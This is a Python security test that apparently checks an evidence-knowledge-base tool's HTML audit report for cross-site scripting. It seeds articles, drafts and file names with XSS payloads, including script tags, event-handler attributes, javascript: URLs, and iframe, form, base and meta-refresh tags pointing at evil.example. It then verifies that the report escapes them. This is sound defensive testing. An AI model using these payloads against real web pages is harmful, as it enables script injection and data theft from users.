#!/usr/bin/env python3
"""Report safety: article content must never act inside the HTML audit report.

    report_safety_test.py --ingest BIN --query BIN --lexicon FILE [...]

Builds a small KB whose articles carry markup in their sentences, titles,
URLs and paths (so the evidence quoted in the report is hostile too), then
audits drafts (.txt, .md, .html, stdin) full of injections with
`evkb-query audit X --format html` and parses the report:
  - no element or attribute comes from the article: the set of tags and
    attribute names equals that of a report on a harmless draft, no on*
    attribute, no javascript:/data:/vbscript: URL, no <script> whose text
    mentions the payloads;
  - nothing is loaded from the network: no http(s):// (or protocol-relative)
    src/href/action/poster/srcset, no CSS url(http...) or @import;
  - the article text is still there, escaped (e.g. "&lt;script&gt;").
Prints one line per report and "reports checked: N, unsafe: 0".
"""
import argparse
import html.parser
import json
import os
import re
import shutil
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "crash"))
import evkb_testlib as lib  # noqa: E402

PAYLOADS = [
    "<script>document.title='PWNED'</script>",
    "<img src=x onerror=alert('PWNED')>",
    "<a href=\"javascript:alert('PWNED')\">click</a>",
    "\"><svg onload=alert('PWNED')>",
    "' onmouseover='alert(1)' x='",
    "</style><script>alert('PWNED')</script>",
    "</textarea></title><iframe src=https://evil.example/frame></iframe>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<div style=\"background:url(https://evil.example/t.png)\">",
    "<!-- unclosed comment",
    "<![CDATA[ ]]>",
    "&lt;script&gt;already escaped&lt;/script&gt;",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example/steal><input name=x></form>",
    "<object data=https://evil.example/x.swf></object>",
    "`${alert(1)}` {{7*7}}",
]
CLAIMS = [
    "Foam rolling breaks up scar tissue in your hamstrings %s.",
    "Research shows that foam rolling after a long run reduces delayed onset muscle soreness %s.",
    "Rolling your IT band every evening will lengthen it %s.",
    "Foam rolling improves circulation %s in tired legs.",
    "Static stretching prevents injury %s.",
]
URL_ATTRS = {"src", "href", "action", "formaction", "poster", "data", "srcset", "background",
             "xlink:href", "cite", "longdesc", "manifest", "ping"}


class Collector(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attrs, self.problems, self.script_text = set(), set(), [], []
        self.styles = []
        self._in = None

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attrs.add((tag, name))
            v = (value or "").strip().lower()
            v = re.sub(r"[\x00-\x20]", "", v)
            if name.startswith("on"):
                self.problems.append("event handler attribute %s on <%s>" % (name, tag))
            if name in URL_ATTRS and re.match(r"(javascript|vbscript|data):", v):
                self.problems.append("%s=%r on <%s>" % (name, value[:60], tag))
            if name in URL_ATTRS and (v.startswith("http:") or v.startswith("https:") or
                                      v.startswith("//")):
                self.problems.append("network URL %s=%r on <%s>" % (name, value[:60], tag))
            if name == "style":
                self.styles.append(value or "")
            if tag == "meta" and name == "http-equiv" and v != "content-security-policy":
                self.problems.append("meta http-equiv=%r in the report" % value)
            if tag == "base":
                self.problems.append("<base> in the report")
        self._in = tag if tag in ("script", "style") else None

    def handle_endtag(self, tag):
        self._in = None

    def handle_data(self, data):
        if self._in == "script":
            self.script_text.append(data)
        elif self._in == "style":
            self.styles.append(data)


def analyse(report):
    c = Collector()
    c.feed(report)
    c.close()
    for s in c.script_text:
        if "PWNED" in s or "alert(" in s:
            c.problems.append("article text inside a <script>: %r" % s[:80])
    for s in c.styles:
        if re.search(r"url\(\s*['\"]?\s*(https?:|//)", s, re.I) or "@import" in s.lower():
            c.problems.append("CSS loads from the network: %r" % s[:80])
        if "evil.example" in s:
            c.problems.append("article text inside CSS: %r" % s[:80])
    for m in re.finditer(r"<\s*(script|iframe|object|embed|base|form|svg|img)\b[^>]*>", report, re.I):
        frag = m.group(0)
        if "PWNED" in frag or "evil.example" in frag or "alert" in frag:
            c.problems.append("raw injected markup in the output: %r" % frag[:80])
    return c


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--ingest", required=True)
    ap.add_argument("--query", required=True)
    ap.add_argument("--lexicon", required=True)
    ap.add_argument("--verify")
    ap.add_argument("--tamper")
    args = ap.parse_args()
    work = tempfile.mkdtemp(prefix="evkb-report-")
    checked = unsafe = 0
    try:
        kb_dir = os.path.join(work, "kb")
        os.makedirs(kb_dir)
        # KB articles: the injections sit inside claim sentences, titles, URLs, file names.
        for i, p in enumerate(PAYLOADS[:8]):
            text = "Evidence note %d %s\n\n" % (i, p) + "\n\n".join(c % p for c in CLAIMS) + (
                "\n\nA systematic review by Okafor et al. (2019) %s found no effect.\n\nReferences\n\n"
                "Okafor, A., Tanaka, B. (2019) Rolling %s: a systematic review. Journal of Sport "
                "Rehabilitation, 28, pp. 1-9. https://evil.example/paper\n" % (p, p))
            name = "note%d.txt" % i
            with open(os.path.join(kb_dir, name), "w") as f:
                f.write(text)
        with open(os.path.join(kb_dir, "evil\"><img src=x onerror=alert(1)>.md"), "w") as f:
            f.write("# <script>alert('PWNED')</script> title\n\n" + "\n\n".join(c % "" for c in CLAIMS))
        with open(os.path.join(kb_dir, "feed.jsonl"), "w") as f:
            for i, p in enumerate(PAYLOADS):
                f.write(json.dumps({"url": "javascript:alert('PWNED%d')" % i if i % 2 else
                                    "https://evil.example/%d\"><script>alert(1)</script>" % i,
                                    "title": "Title %s" % p, "author": p,
                                    "text": "\n\n".join(c % p for c in CLAIMS)}) + "\n")
        db = os.path.join(work, "db")
        r = lib.run([args.ingest, "--db", db, "--lexicon", args.lexicon, "--quiet", "--progress",
                     "never", kb_dir], timeout=120)
        if r.rc not in (0, 3):
            raise lib.Failure("building the KB: evkb-ingest exited %s: %s" % (r.rc, r.err[-500:]))

        drafts = {}
        plain = "\n\n".join(c % "" for c in CLAIMS)
        drafts["harmless.txt"] = "Harmless draft\n\n" + plain
        drafts["injected.txt"] = "Draft %s\n\n" % PAYLOADS[0] + "\n\n".join(
            CLAIMS[i % len(CLAIMS)] % p for i, p in enumerate(PAYLOADS))
        drafts["injected.md"] = "# Draft <script>alert('PWNED')</script>\n\n" + "\n\n".join(
            "- " + CLAIMS[i % len(CLAIMS)] % p for i, p in enumerate(PAYLOADS)) + \
            "\n\n[link](javascript:alert('PWNED')) ![img](https://evil.example/i.png)\n"
        esc = lambda s: s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        drafts["injected.html"] = (
            "<html><head><title>&lt;script&gt;alert('PWNED')&lt;/script&gt; %s</title></head><body>"
            % esc(PAYLOADS[1]) + "".join("<p>%s</p>" % esc(CLAIMS[i % len(CLAIMS)] % p)
                                        for i, p in enumerate(PAYLOADS)) +
            "<p>Rolling reduces soreness <a href=\"javascript:alert('PWNED')\">here</a> "
            "<img src=\"https://evil.example/x.png\" onerror=\"alert('PWNED')\"></p></body></html>")
        drafts["draft\"><svg onload=alert(1)>.txt"] = drafts["injected.txt"]

        baseline = None
        for name in ["harmless.txt"] + sorted(n for n in drafts if n != "harmless.txt") + ["-"]:
            if name == "-":
                path, stdin = "-", drafts["injected.txt"].encode()
            else:
                path, stdin = os.path.join(work, name), None
                with open(path, "w") as f:
                    f.write(drafts[name])
            r = lib.run([args.query, "--db", db, "--lexicon", args.lexicon, "audit", path, "--format",
                         "html", "--fail-on", "never"], timeout=120, stdin=stdin)
            checked += 1
            problems = []
            if r.rc != 0:
                problems.append("audit exited %s: %s" % (r.rc, r.err[-300:]))
                c = None
            else:
                c = analyse(r.out)
                problems += c.problems
                if baseline is None:
                    baseline = c
                else:
                    extra_tags = c.tags - baseline.tags
                    extra_attrs = {a for a in c.attrs - baseline.attrs if a[1] not in ("class",)}
                    if extra_tags:
                        problems.append("tags not in a harmless report: %s" % sorted(extra_tags))
                    if extra_attrs:
                        problems.append("attributes not in a harmless report: %s" % sorted(extra_attrs))
                    if "&lt;script&gt;" not in r.out and "&lt;script" not in r.out:
                        problems.append("the article's markup is not shown escaped")
            unsafe += bool(problems)
            csp = re.search(r"Content-Security-Policy\"?\s+content=\"([^\"]*)", r.out or "")
            lib.log("  %s %-34s %6d bytes, %d kinds of tag%s" % (
                "ok  " if not problems else "FAIL", name if name != "-" else "<stdin>",
                len(r.out), len(c.tags) if c else 0,
                ", CSP: " + csp.group(1)[:40] + "..." if csp else ", no CSP"))
            for p in problems[:8]:
                lib.log("       problem: " + p)
        lib.log("reports checked: %d, unsafe: %d" % (checked, unsafe))
        if unsafe:
            raise lib.Failure("%d reports let article content act or load from the network" % unsafe)
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    lib.main_wrapper(main)
